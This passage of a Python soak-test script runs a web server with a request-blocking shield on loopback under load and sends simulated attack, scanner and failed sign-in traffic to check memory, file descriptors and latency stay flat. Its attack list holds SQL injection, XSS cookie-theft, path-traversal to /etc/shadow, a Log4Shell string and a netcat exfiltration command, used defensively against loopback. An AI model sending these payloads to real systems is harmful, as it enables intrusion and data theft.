#!/usr/bin/env python3
"""Soak: the release server for MINUTES at about 80 % of its measured maximum, with mixed traffic.

Run through bench/soak.sh (which picks the binary and installs wrk). Everything is on loopback:
the server listens on 127.0.0.1 (ephemeral ports), honest load comes from 127.0.0.1, every
attacker, scanner and failing sign-in from its own address in 127.1-3.x.y, the admin from
127.0.0.5. The server runs on core 0 (taskset), wrk and this script on core 1.

1. `bolwerk demo` starts (one worker, log level warn, metrics on a loopback port). An admin
   account `soak` is added with `bolwerk user add`. The honest paths are the demo's pages and
   assets linked from `/` that answer 200.
2. Maximum: wrk -t1 -c50 on the honest mix (a Lua script cycling through the paths, a new
   query value on every fourth request), ROUNDS x 8 s, the median.
3. Pacing: wrk has no rate option (and wrk2 is not available), so the honest load is
   --honest-conns (200) keep-alive connections, each waiting a calibrated pause between an
   answer and its next request (wrk's Lua `delay()`, a random whole number of milliseconds
   whose mean is the pause). Four 6-second calibration runs set the pause so the rate is 80 %
   of the maximum (pause = connections / target rate - the mean measured answer overhead); the
   pause then stays fixed for the whole soak: a constant offered load per connection, which
   cannot pile up when the server slows down (wrk measures latency from sending a request, so
   a stall shows in the latency of the requests in flight, not of those not yet sent).
4. Soak: one 60-second wrk run per minute (so each minute has its own latency histogram; p99
   comes from wrk's `latency:percentile(99)`), while asyncio clients send the rest of the mix:
     attackers   SQLi/XSS/traversal/Log4Shell/bad tools in the query, path, headers, cookies and
                 form bodies, 6 requests per address (banned after 3), half over HTTPS
     scanners    12 distinct missing paths per address (banned after 10 distinct 404s), some
                 well-known probes among them
     sign-ins    every 10 s the admin signs in from 127.0.0.5, opens the dashboard and signs out;
                 failing sign-ins (wrong password for `soak`, unknown names) from addresses that
                 try up to 12 times (banned after 10 failures)
   At second 55 of each minute the server's VmRSS, Threads (/proc/PID/status) and the number
   of entries in /proc/PID/fd are read (rss_kib); VmRSS is also read every second, and the
   minute's lowest and highest reading go to rss_min_kib and rss_max_kib: every password check
   maps Argon2's 19 MiB for the run (up to 4 at once), so a reading taken during a sign-in is
   up to 78 MiB higher, and the lowest reading of the minute is the floor a leak would lift.
   bans_active, tracked_clients and evicted_clients come from the metrics endpoint (the last
   two are set by the shield's once-a-minute sweep), the machine's 1-minute load average from
   /proc/loadavg (other work on the machine shows there).
5. A CSV row per minute, an SVG of RSS, fds and honest p99, and a verdict per series. After the
   load stops, RSS, fds and the shield's gauges are read again after 15 s and after 75 s (by
   then the shield has swept once without load, so tracked_clients shows what it let go).

Flatness rule (printed with the result): minutes 1..W are warm-up (W = 5 when MINUTES >= 25,
else MINUTES // 6); the first window is the N minutes after the warm-up, the last window the
last N minutes (N = min(10, (MINUTES - W) // 2)). RSS and fds are flat when the mean of the last
window is within 20 % of the mean of the first; p99 (noisy on a shared machine) when the
median of the last window is within 50 % of the median of the first. Outside the band a series
is reported as GREW or fell (only growth is a problem: the exit status is 1 when a series grew,
the server died or panicked). The least-squares slope after the warm-up is printed too.
"""
import argparse
import asyncio
import csv
import html
import json
import os
import random
import re
import shutil
import signal
import ssl
import statistics
import subprocess
import sys
import tempfile
import time
import urllib.parse
import urllib.request

HONEST = "127.0.0.1"
ADMIN_SRC = "127.0.0.5"
UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
ADMIN_USER = "soak"

LUA = r"""
-- Honest page views for wrk: cycle through the site's paths; every fourth request carries a
-- new campaign value (as links from newsletters do). SOAK_DELAY_MS set: pause that many
-- milliseconds on average between an answer and the next request on a connection.
local paths = { %PATHS% }
local n = 0
local delay_ms = tonumber(os.getenv("SOAK_DELAY_MS") or "")
local headers = { ["Host"] = "localhost", ["User-Agent"] = "%UA%",
                  ["Accept"] = "text/html,application/xhtml+xml,*/*;q=0.8",
                  ["Accept-Language"] = "nl,en;q=0.7", ["Accept-Encoding"] = "identity" }

function setup(thread)
  thread:set("seed", math.random(1, 1000000))
end

function init(args)
  math.randomseed(seed or os.time())
  n = math.random(0, 1000000)
end

function request()
  n = n + 1
  local p = paths[(n %% #paths) + 1]
  if n %% 4 == 0 then
    local sep = "?"
    if string.find(p, "?", 1, true) then sep = "&" end
    p = p .. sep .. "utm_source=newsletter&utm_campaign=c" .. n
  end
  return wrk.format("GET", p, headers)
end

if delay_ms then
  function delay()
    local d = math.floor(delay_ms)
    if math.random() < delay_ms - d then d = d + 1 end
    return d
  end
end

function done(summary, latency, requests)
  local e = summary.errors
  io.write(string.format('SOAK {"requests":%d,"duration_us":%d,"connect":%d,"read":%d,' ..
    '"write":%d,"status":%d,"timeout":%d,"p50_us":%d,"p90_us":%d,"p99_us":%d,"p999_us":%d,' ..
    '"max_us":%d,"mean_us":%.1f}\n',
    summary.requests, summary.duration, e.connect, e.read, e.write, e.status, e.timeout,
    latency:percentile(50), latency:percentile(90), latency:percentile(99),
    latency:percentile(99.9), latency.max, latency.mean))
end
"""

# Attack requests: (method, path, extra headers, body). Each one is blocked by itself.
ATTACKS = [
    ("GET", "/search?q=" + urllib.parse.quote("1' OR '1'='1' -- "), [], None),
    ("GET", "/news?id=" + urllib.parse.quote("1 UNION SELECT username,password FROM users--"), [], None),
    ("GET", "/about?ref=" + urllib.parse.quote("1;DROP TABLE pages--"), [], None),
    ("GET", "/?q=" + urllib.parse.quote("<script>alert(document.cookie)</script>"), [], None),
    ("GET", "/about?name=" + urllib.parse.quote('"><img src=x onerror=alert(1)>'), [], None),
    ("GET", "/?u=" + urllib.parse.quote("javascript:alert(1)//<svg/onload=alert(1)>"), [], None),
    ("GET", "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd", [], None),
    ("GET", "/download?file=" + urllib.parse.quote("../../../../etc/shadow"), [], None),
    ("GET", "/?page=" + urllib.parse.quote("....//....//....//windows/win.ini"), [], None),
    ("GET", "/", [("X-Api-Version", "${jndi:ldap://127.0.0.1:1389/a}")], None),
    ("GET", "/about", [("Cookie", "lang=nl' OR 1=1-- ")], None),
    ("GET", "/", [("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], None),
    ("GET", "/?cmd=" + urllib.parse.quote(";cat /etc/passwd|nc 127.0.0.1 4444"), [], None),
    ("POST", "/contact", [("Content-Type", "application/x-www-form-urlencoded")],
     "name=" + urllib.parse.quote("<script>fetch('//127.0.0.1/'+document.cookie)</script>")
     + "&email=a%40b.nl&message=hallo"),
    ("POST", "/contact", [("Content-Type", "application/x-www-form-urlencoded")],
     "name=" + urllib.parse.quote("x' AND SLEEP(5)-- ") + "&email=a%40b.nl&message=hallo"),
]
PROBES = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/xmlrpc.php",
          "/admin/config.php", "/server-status", "/actuator/env"]
WORDS = ["old", "archive", "test", "backup", "dev", "beta", "shop", "blog", "files", "docs",
         "team", "media2", "wp", "temp", "uploads", "en", "de", "home2"]


def free_port():
    import socket
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def addr(net, n):
    """The n-th address of 127.<net>.0.0/16, skipping .0 and .255."""
    return f"127.{net}.{(n // 254) % 256}.{n % 254 + 1}"


class Stats:
    """Counters of the asyncio clients, per minute."""

    def __init__(self):
        self.c = {}
        self.login_ok_ms = []

    def add(self, key, n=1):
        self.c[key] = self.c.get(key, 0) + n


# --------------------------------------------------------------------------------------------
# A minimal HTTP/1.1 client, one request per connection, from a chosen source address.

TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE
TLS.set_alpn_protocols(["http/1.1"])


async def h1(src, port, method, path, headers=(), body=None, tls=False, timeout=20):
    """Returns (status, headers, body, seconds); status 0 when the connection failed or was
    closed without an answer."""
    t0 = time.monotonic()
    w = None
    try:
        kw = {"ssl": TLS, "server_hostname": "localhost"} if tls else {}
        r, w = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", port, local_addr=(src, 0), **kw), timeout)
        hs = [("Host", f"localhost:{port}" if tls else "localhost"), ("User-Agent", UA)]
        names = {k.lower() for k, _ in headers}
        hs = [(k, v) for k, v in hs if k.lower() not in names] + list(headers)
        data = body.encode() if isinstance(body, str) else body
        if data is not None:
            hs.append(("Content-Length", str(len(data))))
        hs.append(("Connection", "close"))
        req = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in hs) + "\r\n"
        w.write(req.encode() + (data or b""))
        await w.drain()
        raw = await asyncio.wait_for(r.read(-1), timeout)
    except (OSError, asyncio.TimeoutError, ssl.SSLError, asyncio.IncompleteReadError):
        raw = b""
    finally:
        if w is not None:
            try:
                w.close()
            except Exception:
                pass
    head, _, content = raw.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    status = 0
    if lines and lines[0].startswith(b"HTTP/"):
        try:
            status = int(lines[0].split(b" ")[1])
        except (IndexError, ValueError):
            status = 0
    out = []
    for line in lines[1:]:
        k, _, v = line.partition(b":")
        out.append((k.strip().lower().decode("latin-1"), v.strip().decode("latin-1")))
    return status, out, content, time.monotonic() - t0


# --------------------------------------------------------------------------------------------
# The mixed clients. Each loops until `stop` is set; counters go to the current Stats.


class Mix:
    def __init__(self, http, https, stats, args):
        self.http, self.https, self.stats, self.args = http, https, stats, args
        self.stop = asyncio.Event()
        self.n = {1: 0, 2: 0, 3: 0}
        self.admin_password = None

    def next_addr(self, net):
        self.n[net] += 1
        return addr(net, self.n[net])

    async def pace(self, t0, interval):
        left = interval - (time.monotonic() - t0)
        if left > 0:
            try:
                await asyncio.wait_for(self.stop.wait(), left)
            except asyncio.TimeoutError:
                pass

    async def attacker(self, k):
        rnd = random.Random(k)
        interval = self.args.workers_attack / self.args.attack_rps
        while not self.stop.is_set():
            src, tls = self.next_addr(1), rnd.random() < 0.5
            self.stats().add("attackers")
            for _ in range(6):
                if self.stop.is_set():
                    return
                t0 = time.monotonic()
                method, path, hs, body = rnd.choice(ATTACKS)
                status, _, _, _ = await h1(src, self.https if tls else self.http, method, path, hs, body, tls)
                self.stats().add("attack_req")
                self.stats().add(f"attack_{status}")
                await self.pace(t0, interval)

    async def scanner(self, k):
        rnd = random.Random(1000 + k)
        interval = self.args.workers_scan / self.args.scan_rps
        while not self.stop.is_set():
            src, tls = self.next_addr(2), rnd.random() < 0.3
            self.stats().add("scanners")
            for i in range(12):
                if self.stop.is_set():
                    return
                t0 = time.monotonic()
                if rnd.random() < 0.15:
                    path = rnd.choice(PROBES)
                else:
                    path = f"/{rnd.choice(WORDS)}/{rnd.choice(WORDS)}-{rnd.randrange(10**6)}.html"
                status, _, _, _ = await h1(src, self.https if tls else self.http, "GET", path, tls=tls)
                self.stats().add("scan_req")
                self.stats().add(f"scan_{status}")
                await self.pace(t0, interval)

    async def failed_logins(self):
        rnd = random.Random(99)
        while not self.stop.is_set():
            src = self.next_addr(3)
            self.stats().add("login_fail_addrs")
            for i in range(12):
                if self.stop.is_set():
                    return
                t0 = time.monotonic()
                user = ADMIN_USER if i % 2 == 0 else f"user{rnd.randrange(10**5)}"
                body = urllib.parse.urlencode({"user": user, "password": "Wrong-" + str(rnd.randrange(10**9))})
                status, _, _, _ = await h1(src, self.https, "POST", "/_admin/login", self.admin_headers(), body, tls=True)
                self.stats().add("login_fail_req")
                self.stats().add(f"login_fail_{status}")
                await self.pace(t0, self.args.login_fail_every)

    def admin_headers(self, cookie=None, post=True):
        hs = []
        if post:
            hs += [("Origin", f"https://localhost:{self.https}"), ("Sec-Fetch-Site", "same-origin"),
                   ("Content-Type", "application/x-www-form-urlencoded")]
        if cookie:
            hs.append(("Cookie", f"__Host-sid={cookie}"))
        return hs

    async def admin(self):
        while not self.stop.is_set():
            t0 = time.monotonic()
            body = urllib.parse.urlencode({"user": ADMIN_USER, "password": self.admin_password})
            status, hs, _, secs = await h1(ADMIN_SRC, self.https, "POST", "/_admin/login", self.admin_headers(), body, tls=True)
            cookie = None
            for k, v in hs:
                if k == "set-cookie" and v.startswith("__Host-sid="):
                    cookie = v.split(";")[0].split("=", 1)[1] or None
            if status == 303 and cookie:
                st2, _, page, _ = await h1(ADMIN_SRC, self.https, "GET", "/_admin/", self.admin_headers(cookie, False), tls=True)
                m = re.search(rb'name="csrf" value="([^"]+)"', page)
                st3 = 0
                if m:
                    st3, _, _, _ = await h1(ADMIN_SRC, self.https, "POST", "/_admin/logout", self.admin_headers(cookie),
                                            "csrf=" + urllib.parse.quote(m.group(1).decode()), tls=True)
                ok = st2 == 200 and st3 == 303
                self.stats().add("login_ok" if ok else "login_ok_incomplete")
                self.stats().login_ok_ms.append(secs * 1000)
            else:
                self.stats().add(f"login_ok_refused_{status}")
            await self.pace(t0, self.args.login_ok_every)

    def tasks(self):
        out = [self.attacker(k) for k in range(self.args.workers_attack)]
        out += [self.scanner(k) for k in range(self.args.workers_scan)]
        out += [self.failed_logins(), self.admin()]
        return [asyncio.ensure_future(t) for t in out]


# --------------------------------------------------------------------------------------------
# The server


def proc_sample(pid):
    rss = threads = None
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                rss = int(line.split()[1])
            elif line.startswith("Threads:"):
                threads = int(line.split()[1])
    fds = len(os.listdir(f"/proc/{pid}/fd"))
    return rss, fds, threads


def metrics(port):
    try:
        text = urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10).read().decode()
    except OSError:
        return {}
    out = {}
    for line in text.splitlines():
        if line.startswith("#"):
            continue
        m = re.match(r'^(\w+)(\{[^}]*\})?\s+([0-9.eE+-]+)', line)
        if m:
            out[m.group(1) + (m.group(2) or "")] = float(m.group(3))
    return out


def http_get(port, path):
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", headers={"Host": "localhost", "User-Agent": UA})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, b""


def honest_paths(port):
    _, page = http_get(port, "/")
    found = ["/"]
    for p in re.findall(rb'(?:href|src)="([^"]*)"', page):
        p = html.unescape(p.decode()).split("#")[0]
        if p.startswith("/") and not p.startswith("//") and p not in found and not p.startswith("/_admin"):
            found.append(p)
    ok = [p for p in found if http_get(port, p)[0] == 200]
    return ok[:20]


async def wrk(url, lua, conns, secs, delay_ms=None):
    env = dict(os.environ)
    env.pop("SOAK_DELAY_MS", None)
    if delay_ms is not None:
        env["SOAK_DELAY_MS"] = f"{delay_ms:.4f}"
    p = await asyncio.create_subprocess_exec(
        "wrk", "-t1", f"-c{conns}", f"-d{secs}s", "--timeout", "10s", "-s", lua, url,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE, env=env)
    return p


async def wrk_result(p):
    out, err = await p.communicate()
    for line in out.decode(errors="replace").splitlines():
        if line.startswith("SOAK "):
            r = json.loads(line[5:])
            r["rps"] = r["requests"] / (r["duration_us"] / 1e6)
            return r
    raise RuntimeError(f"wrk gave no result: {out.decode()[-500:]} {err.decode()[-500:]}")


async def wrk_run(*a, **kw):
    return await wrk_result(await wrk(*a, **kw))


# --------------------------------------------------------------------------------------------
# Summary, flatness, SVG


def window_rule(minutes):
    warm = 5 if minutes >= 25 else minutes // 6
    n = max(1, min(10, (minutes - warm) // 2))
    return warm, n


def slope_per_hour(xs, ys):
    if len(xs) < 2:
        return 0.0
    mx, my = statistics.fmean(xs), statistics.fmean(ys)
    den = sum((x - mx) ** 2 for x in xs)
    return 0.0 if den == 0 else 60 * sum((x - mx) * (y - my) for x, y in zip(xs, ys)) / den


def verdicts(rows):
    minutes = len(rows)
    warm, n = window_rule(minutes)
    first = rows[warm:warm + n]
    last = rows[-n:]
    out = []
    for key, label, unit, agg, tol in (("rss_kib", "RSS", "MiB", statistics.fmean, 0.20),
                                       ("fds", "open fds", "", statistics.fmean, 0.20),
                                       ("honest_p99_ms", "honest p99", "ms", statistics.median, 0.50)):
        scale = 1 / 1024 if key == "rss_kib" else 1
        a = agg([r[key] * scale for r in first])
        b = agg([r[key] * scale for r in last])
        change = (b - a) / a if a else 0.0
        post = rows[warm:]
        slope = slope_per_hour([r["minute"] for r in post], [r[key] * scale for r in post])
        flat = abs(change) <= tol
        word = "flat" if flat else ("GREW" if change > 0 else "fell")
        out.append({"series": label, "key": key, "unit": unit, "first": a, "last": b, "change": change,
                    "tolerance": tol, "flat": flat, "word": word, "slope_per_hour": slope,
                    "stat": "mean" if agg is statistics.fmean else "median"})
    return warm, n, out


def nice_ceil(v):
    """The smallest 1, 2, 2.5 or 5 times a power of ten at or above v."""
    if v <= 0:
        return 1.0
    import math
    e = 10 ** math.floor(math.log10(v))
    for m in (1, 2, 2.5, 5, 10):
        if m * e >= v:
            return m * e
    return 10 * e


def svg(rows, path, title, subtitle, warm, n, vs):
    W, PH, LM, RM, TM, GAP = 720, 150, 60, 20, 40, 46
    panels = [("rss_kib", "RSS (MiB)", 1 / 1024), ("fds", "open file descriptors", 1),
              ("honest_p99_ms", "p99 latency of honest requests (ms)", 1)]
    TM = 58
    H = TM + len(panels) * (PH + GAP) + 10
    xs = [r["minute"] for r in rows]
    x0, x1 = min(xs), max(xs)
    if x1 == x0:
        x1 = x0 + 1
    pw = W - LM - RM
    esc = lambda s: s.replace("&", "&amp;").replace("<", "&lt;")
    out = [f'<svg xmlns="http://www.w3.org/2000/svg" width="{W}" height="{H}" viewBox="0 0 {W} {H}" '
           'font-family="sans-serif" font-size="11">',
           f'<rect width="{W}" height="{H}" fill="#fff"/>',
           f'<text x="{LM}" y="18" font-size="13" font-weight="bold">{esc(title)}</text>',
           f'<text x="{LM}" y="34" fill="#444">{esc(subtitle)}</text>']
    verdict = {v["key"]: v for v in vs}

    def X(m):
        return LM + min(1.0, max(0.0, (m - x0) / (x1 - x0))) * pw

    for i, (key, label, scale) in enumerate(panels):
        top = TM + i * (PH + GAP) + 16
        ys = [r[key] * scale for r in rows]
        lo, hi = 0.0, nice_ceil(max(ys) * 1.1)

        def Y(v):
            return top + PH - (v - lo) / (hi - lo) * PH

        out.append(f'<text x="{LM}" y="{top - 5}" font-weight="bold">{esc(label)}</text>')
        v = verdict[key]
        color = "#c00" if v["word"] == "GREW" else ("#2a7" if v["flat"] else "#b60")
        out.append(f'<text x="{LM + pw}" y="{top - 5}" text-anchor="end" fill="{color}">'
                   f'{v["stat"]} of minutes {rows[warm]["minute"]}-{rows[min(len(rows), warm + n) - 1]["minute"]}: '
                   f'{v["first"]:.1f}, of {rows[-n]["minute"]}-{rows[-1]["minute"]}: {v["last"]:.1f} '
                   f'({v["change"]:+.0%}): {v["word"]}</text>')
        if warm:
            out.append(f'<rect x="{X(x0):.1f}" y="{top}" width="{X(min(x1, warm + 0.5)) - X(x0):.1f}" '
                       f'height="{PH}" fill="#eee"/>')
            out.append(f'<text x="{X(x0) + 3:.1f}" y="{top + 12}" fill="#888">warm-up</text>')
        out.append(f'<rect x="{LM}" y="{top}" width="{pw}" height="{PH}" fill="none" stroke="#999"/>')
        for frac in (0, 0.25, 0.5, 0.75, 1):
            v = lo + (hi - lo) * frac
            y = Y(v)
            out.append(f'<line x1="{LM - 4}" y1="{y:.1f}" x2="{LM}" y2="{y:.1f}" stroke="#999"/>')
            out.append(f'<text x="{LM - 7}" y="{y + 4:.1f}" text-anchor="end">{v:.{0 if hi >= 20 else 1}f}</text>')
            if 0 < frac < 1:
                out.append(f'<line x1="{LM}" y1="{y:.1f}" x2="{LM + pw}" y2="{y:.1f}" stroke="#eee"/>')
        for seg, color in ((rows[warm:warm + n], "#2a7"), (rows[-n:], "#c50")):
            if not seg:
                continue
            m = statistics.fmean([r[key] * scale for r in seg]) if key != "honest_p99_ms" else \
                statistics.median([r[key] * scale for r in seg])
            out.append(f'<line x1="{X(seg[0]["minute"] - 0.3):.1f}" y1="{Y(m):.1f}" x2="{X(seg[-1]["minute"] + 0.3):.1f}" '
                       f'y2="{Y(m):.1f}" stroke="{color}" stroke-width="2" stroke-dasharray="5,3"/>')
        if key == "honest_p99_ms" and all(r.get("loadavg_1m") not in (None, "") for r in rows):
            # the machine's load average, on its own scale: other work on the shared machine
            lmax = nice_ceil(max(float(r["loadavg_1m"]) for r in rows) * 1.1)
            lp = " ".join(f"{X(r['minute']):.1f},{top + PH - float(r['loadavg_1m']) / lmax * PH:.1f}" for r in rows)
            out.append(f'<polyline points="{lp}" fill="none" stroke="#aaa" stroke-width="1.2" stroke-dasharray="2,2"/>')
            out.append(f'<text x="{LM + pw - 4}" y="{top + 12}" text-anchor="end" fill="#888">dotted grey: the '
                       f'machine\'s 1-minute load average (0-{lmax:g}), other work included</text>')
        pts = " ".join(f"{X(r['minute']):.1f},{Y(r[key] * scale):.1f}" for r in rows)
        out.append(f'<polyline points="{pts}" fill="none" stroke="#246" stroke-width="1.6"/>')
        for r in rows:
            out.append(f'<circle cx="{X(r["minute"]):.1f}" cy="{Y(r[key] * scale):.1f}" r="2" fill="#246"/>')
        step = 1 if x1 - x0 <= 12 else 5
        for m in range(x0, x1 + 1):
            if m in (x0, x1) or m % step == 0:
                out.append(f'<text x="{X(m):.1f}" y="{top + PH + 13}" text-anchor="middle">{m}</text>')
    out.append(f'<text x="{LM + pw / 2}" y="{H - 8}" text-anchor="middle">minute of the soak '
               '(dashed: mean of the first and last window; p99: median)</text>')
    out.append("</svg>")
    with open(path, "w") as f:
        f.write("\n".join(out) + "\n")


# --------------------------------------------------------------------------------------------


async def main(args):
    os.sched_setaffinity(0, {1})
    binary = os.path.abspath(args.bolwerk)
    run = tempfile.mkdtemp(prefix="bolwerk-soak.")
    http, https, mport = free_port(), free_port(), free_port()
    shield = ("allowlist = [\"127.0.0.1/32\"]\n" if args.honest_allowlisted else
              "# one honest client (wrk) makes all the page views: its budget is raised, it is still inspected\n"
              "rate_pages_per_s = 10000000\nrate_pages_burst = 10000000\n"
              "rate_static_per_s = 10000000\nrate_static_burst = 10000000\n"
              "ban_flood_threshold = 1000000000\n")
    config = f"""[server]
workers = 1
redirect_http = false
[log]
level = "warn"
[metrics]
listen = "127.0.0.1:{mport}"
[shield]
{shield}"""
    with open(os.path.join(run, "bolwerk.toml"), "w") as f:
        f.write(config)
    data = os.path.join(run, "data")
    out_path, err_path = os.path.join(run, "stdout.log"), os.path.join(run, "stderr.log")
    server = subprocess.Popen(
        ["taskset", "-c", "0", binary, "demo", "--data-dir", data, "--config", os.path.join(run, "bolwerk.toml"),
         "--http", f"127.0.0.1:{http}", "--https", f"127.0.0.1:{https}"],
        stdin=subprocess.DEVNULL, stdout=open(out_path, "wb"), stderr=open(err_path, "wb"))
    rows = []
    try:
        deadline = time.monotonic() + 120
        while "Stop with Ctrl-C." not in open(out_path, errors="replace").read():
            if server.poll() is not None or time.monotonic() > deadline:
                sys.stderr.write(open(err_path, errors="replace").read()[-3000:])
                raise SystemExit(f"the demo did not start (exit {server.poll()})")
            await asyncio.sleep(0.2)
        pid = server.pid
        version = subprocess.run([binary, "--version"], capture_output=True, text=True).stdout.strip()
        pw = "Rp-" + os.urandom(12).hex()
        r = subprocess.run([binary, "user", "add", ADMIN_USER, "--role", "admin", "--data-dir", data],
                           input=f"{pw}\n{pw}\n", capture_output=True, text=True, timeout=120)
        if r.returncode != 0:
            raise SystemExit(f"user add: {r.stderr}")
        paths = honest_paths(http)
        lua = os.path.join(run, "honest.lua")
        with open(lua, "w") as f:
            f.write(LUA.replace("%PATHS%", ", ".join(json.dumps(p) for p in paths))
                    .replace("%UA%", UA).replace("%%", "%"))
        url = f"http://127.0.0.1:{http}"
        print(f"# {version} ({args.bolwerk}), pid {pid}, http {http}, https {https}, data {run}", flush=True)
        print(f"# honest paths ({len(paths)}): {' '.join(paths)}", flush=True)

        # Maximum
        await wrk_run(url, lua, 50, 2)
        maxes = []
        for i in range(args.rounds):
            r = await wrk_run(url, lua, 50, 8)
            maxes.append(r["rps"])
            print(f"# max round {i + 1}: {r['rps']:.0f} req/s (p99 {r['p99_us'] / 1000:.2f} ms, "
                  f"{r['status']} non-2xx, {r['connect'] + r['read'] + r['write'] + r['timeout']} socket errors)", flush=True)
        peak = statistics.median(maxes)
        target = args.load * peak
        conns = args.honest_conns
        delay = conns * 1000 / target
        print(f"# maximum (median of {args.rounds}): {peak:.0f} req/s; target {args.load:.0%}: {target:.0f} req/s "
              f"with {conns} connections", flush=True)
        overheads = []
        for i in range(4):
            r = await wrk_run(url, lua, conns, 6, delay)
            # a connection's cycle is the pause plus the answer time (and timer slack): that
            # overhead is estimated from every round so far, so one noisy round moves it less
            overheads.append(conns * 1000 / r["rps"] - delay)
            new = conns * 1000 / target - statistics.fmean(overheads)
            print(f"# calibration {i + 1}: pause {delay:.3f} ms -> {r['rps']:.0f} req/s; next pause {new:.3f} ms", flush=True)
            if new <= 0.05:
                raise SystemExit("the target cannot be reached with this many connections (--honest-conns)")
            delay = new
        print(f"# soak: {args.minutes} min, pause {delay:.3f} ms per connection, server on core 0, clients on core 1",
              flush=True)

        stats = [Stats()]
        rss_seen = []

        async def watch_rss():
            # VmRSS every second, so a sign-in's Argon2 memory at second 55 is told from a floor
            while server.poll() is None:
                try:
                    rss_seen.append(proc_sample(pid)[0])
                except (OSError, TypeError):
                    return
                await asyncio.sleep(1)

        watcher = asyncio.ensure_future(watch_rss())
        mix = Mix(http, https, lambda: stats[0], args)
        mix.admin_password = pw
        clients = mix.tasks()
        csv_f = open(args.csv, "w", newline="")
        fields = ["minute", "elapsed_s", "rss_kib", "rss_min_kib", "rss_max_kib", "fds", "threads",
                  "honest_requests", "honest_rps",
                  "honest_p50_ms", "honest_p99_ms", "honest_max_ms", "honest_non2xx", "honest_socket_errors",
                  "attack_requests", "attack_403", "attack_other", "scan_requests", "scan_404", "scan_403",
                  "scan_other", "signins_ok", "signin_ok_max_ms", "signins_failed", "signins_failed_403",
                  "bans_active", "tracked_clients", "evicted_clients", "client_conn_failures", "loadavg_1m"]
        cw = csv.DictWriter(csv_f, fieldnames=fields)
        cw.writeheader()
        t_start = time.monotonic()
        crashed = None
        for minute in range(1, args.minutes + 1):
            p = await wrk(url, lua, conns, 60, delay)
            await asyncio.sleep(55)
            if server.poll() is not None:
                crashed = f"minute {minute}: the server exited with {server.returncode}"
                p.kill()
                break
            rss, fds, threads = proc_sample(pid)
            r = await wrk_result(p)
            s, stats[0] = stats[0], Stats()
            seen = rss_seen[:] + [rss]
            rss_seen.clear()
            met = await asyncio.to_thread(metrics, mport)
            c = s.c
            row = {
                "minute": minute, "elapsed_s": round(time.monotonic() - t_start), "rss_kib": rss,
                "rss_min_kib": min(seen), "rss_max_kib": max(seen), "fds": fds,
                "threads": threads, "honest_requests": r["requests"], "honest_rps": round(r["rps"]),
                "honest_p50_ms": round(r["p50_us"] / 1000, 3), "honest_p99_ms": round(r["p99_us"] / 1000, 3),
                "honest_max_ms": round(r["max_us"] / 1000, 1), "honest_non2xx": r["status"],
                "honest_socket_errors": r["connect"] + r["read"] + r["write"] + r["timeout"],
                "attack_requests": c.get("attack_req", 0), "attack_403": c.get("attack_403", 0),
                "attack_other": c.get("attack_req", 0) - c.get("attack_403", 0),
                "scan_requests": c.get("scan_req", 0), "scan_404": c.get("scan_404", 0), "scan_403": c.get("scan_403", 0),
                "scan_other": c.get("scan_req", 0) - c.get("scan_404", 0) - c.get("scan_403", 0),
                "signins_ok": c.get("login_ok", 0),
                "signin_ok_max_ms": round(max(s.login_ok_ms), 1) if s.login_ok_ms else "",
                "signins_failed": c.get("login_fail_req", 0), "signins_failed_403": c.get("login_fail_403", 0),
                "bans_active": int(met.get("bolwerk_shield_bans_active", -1)),
                "tracked_clients": int(met.get("bolwerk_shield_tracked_clients", -1)),
                "evicted_clients": int(met.get("bolwerk_shield_evicted_clients", -1)),
                "client_conn_failures": sum(v for k, v in c.items() if k.endswith("_0")),
                "loadavg_1m": float(open("/proc/loadavg").read().split()[0]),
            }
            cw.writerow(row)
            csv_f.flush()
            rows.append(row)
            other = {k: v for k, v in sorted(c.items()) if k.startswith(("attack_", "scan_", "login_")) and
                     k not in ("attack_req", "scan_req", "login_fail_req")}
            print(f"min {minute:3d}: RSS {rss / 1024:6.1f} MiB (the minute's {min(seen) / 1024:.1f}-"
                  f"{max(seen) / 1024:.1f})  fds {fds:4d}  threads {threads:3d}  honest "
                  f"{r['rps']:7.0f} req/s p50 {r['p50_us'] / 1000:6.2f} p99 {r['p99_us'] / 1000:7.2f} ms "
                  f"non-2xx {r['status']}  bans {row['bans_active']}  tracked {row['tracked_clients']} "
                  f"evicted {row['evicted_clients']}  load {row['loadavg_1m']}  {other}", flush=True)
        mix.stop.set()
        watcher.cancel()
        await asyncio.gather(*clients, return_exceptions=True)
        csv_f.close()
        after = None
        for wait, idle in ((15, 15), (60, 75)):
            if server.poll() is not None:
                break
            await asyncio.sleep(wait)
            after = proc_sample(pid)
            met = await asyncio.to_thread(metrics, mport)
            shown = " ".join(f"{k.removeprefix('bolwerk_shield_')} {met[k]:.0f}" for k in (
                "bolwerk_shield_bans_active", "bolwerk_shield_tracked_clients",
                "bolwerk_shield_evicted_clients", "bolwerk_shield_events_coalesced_total") if k in met)
            print(f"# {idle} s after the load stopped: RSS {after[0] / 1024:.1f} MiB, fds {after[1]}, "
                  f"threads {after[2]}; metrics: {shown or 'none'}", flush=True)
        log = open(err_path, "rb").read()
        panics = log.count(b"panicked")
        errors = len(re.findall(rb"\bERROR\b", log))
        print(f"# server log: {len(log.splitlines())} lines, {errors} ERROR, {panics} panics")
        if crashed:
            print(f"# CRASH: {crashed}")
            sys.stderr.write(log.decode(errors="replace")[-3000:])
        if not rows:
            return 1
        warm, n, vs = verdicts(rows)
        print(f"# rule: warm-up minutes 1-{warm}; first window minutes {rows[warm]['minute']}-"
